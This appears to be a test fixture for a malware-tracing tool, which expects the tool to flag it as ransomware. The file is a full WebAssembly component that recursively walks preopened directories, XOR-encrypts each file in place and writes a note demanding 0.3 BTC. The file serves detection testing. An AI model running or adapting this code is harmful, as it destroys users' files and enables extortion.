;; RUN: spoor trace % --json
;; WHAT: The ransomware of component-locker over three modules: of memory, of a cipher in a table,
;;   of the walk.
;; EXPECT: verdict=SUSPICIOUS|MALICIOUS status=exited family=ransomware file="/home/user/README-LOCKED.txt:created" import="wasi:filesystem/types@0.2.0.[method]descriptor.open-at"
(component
  (import "wasi:filesystem/types@0.2.0" (instance $types
    (export "descriptor" (type $descriptor (sub resource)))
    (export "directory-entry-stream" (type $entries (sub resource)))
    (type $errors (enum "access" "would-block" "already" "bad-descriptor" "busy" "deadlock" "quota" "exist"
      "file-too-large" "illegal-byte-sequence" "in-progress" "interrupted" "invalid" "io" "is-directory" "loop"
      "too-many-links" "message-size" "name-too-long" "no-device" "no-entry" "no-lock" "insufficient-memory"
      "insufficient-space" "not-directory" "not-empty" "not-recoverable" "unsupported" "no-tty"
      "no-such-device" "overflow" "not-permitted" "pipe" "read-only" "invalid-seek" "text-file-busy"
      "cross-device"))
    (export "error-code" (type $error (eq $errors)))
    (type $kinds (enum "unknown" "block-device" "character-device" "directory" "fifo" "symbolic-link"
      "regular-file" "socket"))
    (export "descriptor-type" (type $kind (eq $kinds)))
    (type $entry' (record (field "type" $kind) (field "name" string)))
    (export "directory-entry" (type $entry (eq $entry')))
    (type $path-flags' (flags "symlink-follow"))
    (export "path-flags" (type $path-flags (eq $path-flags')))
    (type $open-flags' (flags "create" "directory" "exclusive" "truncate"))
    (export "open-flags" (type $open-flags (eq $open-flags')))
    (type $flags' (flags "read" "write" "file-integrity-sync" "data-integrity-sync"
      "requested-write-sync" "mutate-directory"))
    (export "descriptor-flags" (type $flags (eq $flags')))
    (export "[method]descriptor.read-directory" (func
      (param "self" (borrow $descriptor)) (result (result (own $entries) (error $error)))))
    (export "[method]directory-entry-stream.read-directory-entry" (func
      (param "self" (borrow $entries)) (result (result (option $entry) (error $error)))))
    (export "[method]descriptor.open-at" (func
      (param "self" (borrow $descriptor)) (param "path-flags" $path-flags) (param "path" string)
      (param "open-flags" $open-flags) (param "flags" $flags)
      (result (result (own $descriptor) (error $error)))))
    (export "[method]descriptor.read" (func
      (param "self" (borrow $descriptor)) (param "length" u64) (param "offset" u64)
      (result (result (tuple (list u8) bool) (error $error)))))
    (export "[method]descriptor.write" (func
      (param "self" (borrow $descriptor)) (param "buffer" (list u8)) (param "offset" u64)
      (result (result u64 (error $error)))))))
  (alias export $types "descriptor" (type $descriptor))
  (import "wasi:filesystem/preopens@0.2.0" (instance $preopens
    (alias outer 1 $descriptor (type $outer))
    (export "descriptor" (type $own (eq $outer)))
    (export "get-directories" (func (result (list (tuple (own $own) string)))))))

  (core module $store
    (memory (export "m") 2)
    (table (export "t") 2 funcref)
    (global (export "names") i32 (i32.const 256))
    (global (export "key") (mut i32) (i32.const 0)))

  ;; Memory and cipher of their own, as in a library that is shared.
  (core module $library
    (import "store" "m" (memory 2))
    (import "store" "t" (table 2 funcref))
    (import "store" "key" (global $key (mut i32)))
    (import "store" "names" (global $names i32))
    (global $free (mut i32) (i32.const 1024))
    (data (global.get $names) "README-LOCKED.txt")
    (elem (i32.const 1) func $crypt)
    (func $seed (global.set $key (i32.const 0x1f123bb5)))
    (start $seed)
    ;; The canonical ABI asks for memory for names and contents.
    (func (export "r") (param i32 i32 i32 i32) (result i32) (local $at i32)
      (local.set $at (i32.and (i32.add (global.get $free) (i32.const 7)) (i32.const -8)))
      (global.set $free (i32.add (local.get $at) (local.get 3)))
      (if (i32.gt_u (global.get $free) (i32.shl (memory.size) (i32.const 16)))
        (then (drop (memory.grow (i32.const 16)))))
      (local.get $at))
    ;; xorshift: one byte of key stream.
    (func $byte (result i32)
      (global.set $key (i32.xor (global.get $key) (i32.shl (global.get $key) (i32.const 13))))
      (global.set $key (i32.xor (global.get $key) (i32.shr_u (global.get $key) (i32.const 17))))
      (global.set $key (i32.xor (global.get $key) (i32.shl (global.get $key) (i32.const 5))))
      (i32.and (global.get $key) (i32.const 255)))
    (func $crypt (param $at i32) (param $len i32) (local $end i32)
      (local.set $end (i32.add (local.get $at) (local.get $len)))
      (block $done
        (loop $more
          (br_if $done (i32.ge_u (local.get $at) (local.get $end)))
          (i32.store8 (local.get $at) (i32.xor (i32.load8_u (local.get $at)) (call $byte)))
          (local.set $at (i32.add (local.get $at) (i32.const 1)))
          (br $more)))))

  (core module $program
    (import "a" "a" (func $directories (param i32)))
    (import "a" "b" (func $list (param i32 i32)))
    (import "a" "c" (func $next (param i32 i32)))
    (import "a" "d" (func $open (param i32 i32 i32 i32 i32 i32 i32)))
    (import "a" "e" (func $read (param i32 i64 i64 i32)))
    (import "a" "f" (func $write (param i32 i32 i32 i64 i32)))
    (import "a" "g" (func $drop (param i32)))
    (import "store" "m" (memory 2))
    (import "store" "t" (table 2 funcref))
    (type $crypt (func (param i32 i32)))
    (data (i32.const 288) "Your files have been encrypted. To get the key, pay 0.3 BTC within 72 hours and write to locker@mail.example.invalid. Do not rename encrypted files.")
    ;; Opens a name below a directory; -1 if that fails.
    (func $open-at (param $dir i32) (param $name i32) (param $len i32) (param $how i32) (param $flags i32)
      (result i32)
      (call $open (local.get $dir) (i32.const 0) (local.get $name) (local.get $len)
        (local.get $how) (local.get $flags) (i32.const 16))
      (if (i32.load8_u (i32.const 16)) (then (return (i32.const -1))))
      (i32.load (i32.const 20)))
    (func $lock (param $dir i32) (param $name i32) (param $len i32) (local $file i32)
      (local.set $file
        (call $open-at (local.get $dir) (local.get $name) (local.get $len) (i32.const 0) (i32.const 3)))
      (if (i32.eq (local.get $file) (i32.const -1)) (then (return)))
      (call $read (local.get $file) (i64.const 65536) (i64.const 0) (i32.const 16))
      (if (i32.eqz (i32.load8_u (i32.const 16)))
        (then
          (call_indirect (type $crypt) (i32.load (i32.const 20)) (i32.load (i32.const 24)) (i32.const 1))
          (call $write (local.get $file) (i32.load (i32.const 20)) (i32.load (i32.const 24)) (i64.const 0)
            (i32.const 32))))
      (call $drop (local.get $file)))
    (func $walk (param $dir i32) (local $entries i32) (local $kind i32) (local $name i32) (local $len i32)
      (local $below i32)
      (call $list (local.get $dir) (i32.const 16))
      (if (i32.load8_u (i32.const 16)) (then (return)))
      (local.set $entries (i32.load (i32.const 20)))
      (block $done
        (loop $more
          (call $next (local.get $entries) (i32.const 16))
          (br_if $done (i32.load8_u (i32.const 16)))
          (br_if $done (i32.eqz (i32.load8_u (i32.const 20))))
          (local.set $kind (i32.load8_u (i32.const 24)))
          (local.set $name (i32.load (i32.const 28)))
          (local.set $len (i32.load (i32.const 32)))
          (if (i32.eq (local.get $kind) (i32.const 6))
            (then (call $lock (local.get $dir) (local.get $name) (local.get $len))))
          (if (i32.eq (local.get $kind) (i32.const 3))
            (then
              (local.set $below
                (call $open-at (local.get $dir) (local.get $name) (local.get $len) (i32.const 2)
                  (i32.const 33)))
              (if (i32.ne (local.get $below) (i32.const -1)) (then (call $walk (local.get $below))))))
          (br $more)))
      ;; The note.
      (local.set $below
        (call $open-at (local.get $dir) (i32.const 256) (i32.const 17) (i32.const 1) (i32.const 2)))
      (if (i32.ne (local.get $below) (i32.const -1))
        (then
          (call $write (local.get $below) (i32.const 288) (i32.const 149) (i64.const 0) (i32.const 32))
          (call $drop (local.get $below)))))
    (func (export "x") (result i32) (local $at i32) (local $left i32)
      (call $directories (i32.const 8))
      (local.set $at (i32.load (i32.const 8)))
      (local.set $left (i32.load (i32.const 12)))
      (block $done
        (loop $more
          (br_if $done (i32.eqz (local.get $left)))
          (call $walk (i32.load (local.get $at)))
          (local.set $at (i32.add (local.get $at) (i32.const 12)))
          (local.set $left (i32.sub (local.get $left) (i32.const 1)))
          (br $more)))
      (i32.const 0)))

  ;; What wants the program's memory is called through a table, since there is no program yet.
  (core module $jumps
    (type $t0 (func (param i32))) (type $t1 (func (param i32 i32)))
    (type $t2 (func (param i32 i32 i32 i32 i32 i32 i32))) (type $t3 (func (param i32 i64 i64 i32)))
    (type $t4 (func (param i32 i32 i32 i64 i32)))
    (table (export "$imports") 6 6 funcref)
    (func (export "0") (type $t0) (call_indirect (type $t0) (local.get 0) (i32.const 0)))
    (func (export "1") (type $t1) (call_indirect (type $t1) (local.get 0) (local.get 1) (i32.const 1)))
    (func (export "2") (type $t1) (call_indirect (type $t1) (local.get 0) (local.get 1) (i32.const 2)))
    (func (export "3") (type $t2) (call_indirect (type $t2) (local.get 0) (local.get 1) (local.get 2)
      (local.get 3) (local.get 4) (local.get 5) (local.get 6) (i32.const 3)))
    (func (export "4") (type $t3) (call_indirect (type $t3) (local.get 0) (local.get 1) (local.get 2)
      (local.get 3) (i32.const 4)))
    (func (export "5") (type $t4) (call_indirect (type $t4) (local.get 0) (local.get 1) (local.get 2)
      (local.get 3) (local.get 4) (i32.const 5))))
  (core module $fill
    (import "" "$imports" (table 6 6 funcref))
    (import "" "0" (func (param i32)))
    (import "" "1" (func (param i32 i32)))
    (import "" "2" (func (param i32 i32)))
    (import "" "3" (func (param i32 i32 i32 i32 i32 i32 i32)))
    (import "" "4" (func (param i32 i64 i64 i32)))
    (import "" "5" (func (param i32 i32 i32 i64 i32)))
    (elem (i32.const 0) func 0 1 2 3 4 5))

  (core instance $jumps (instantiate $jumps))
  (core func $drop (canon resource.drop $descriptor))
  (core instance $store (instantiate $store))
  (core instance $library (instantiate $library (with "store" (instance $store))))
  (core instance $program (instantiate $program (with "store" (instance $store)) (with "a" (instance
    (export "a" (func $jumps "0")) (export "b" (func $jumps "1")) (export "c" (func $jumps "2"))
    (export "d" (func $jumps "3")) (export "e" (func $jumps "4")) (export "f" (func $jumps "5"))
    (export "g" (func $drop))))))
  (core func $l0 (canon lower (func $preopens "get-directories")
    (memory (core memory $store "m")) (realloc (core func $library "r"))))
  (core func $l1 (canon lower (func $types "[method]descriptor.read-directory")
    (memory (core memory $store "m"))))
  (core func $l2 (canon lower (func $types "[method]directory-entry-stream.read-directory-entry")
    (memory (core memory $store "m")) (realloc (core func $library "r"))))
  (core func $l3 (canon lower (func $types "[method]descriptor.open-at") (memory (core memory $store "m"))))
  (core func $l4 (canon lower (func $types "[method]descriptor.read")
    (memory (core memory $store "m")) (realloc (core func $library "r"))))
  (core func $l5 (canon lower (func $types "[method]descriptor.write") (memory (core memory $store "m"))))
  (core instance (instantiate $fill (with "" (instance
    (export "$imports" (table $jumps "$imports"))
    (export "0" (func $l0)) (export "1" (func $l1)) (export "2" (func $l2))
    (export "3" (func $l3)) (export "4" (func $l4)) (export "5" (func $l5))))))

  (func $run (result (result)) (canon lift (core func $program "x")))
  (instance $exports (export "run" (func $run)))
  (export "wasi:cli/run@0.2.0" (instance $exports))
)
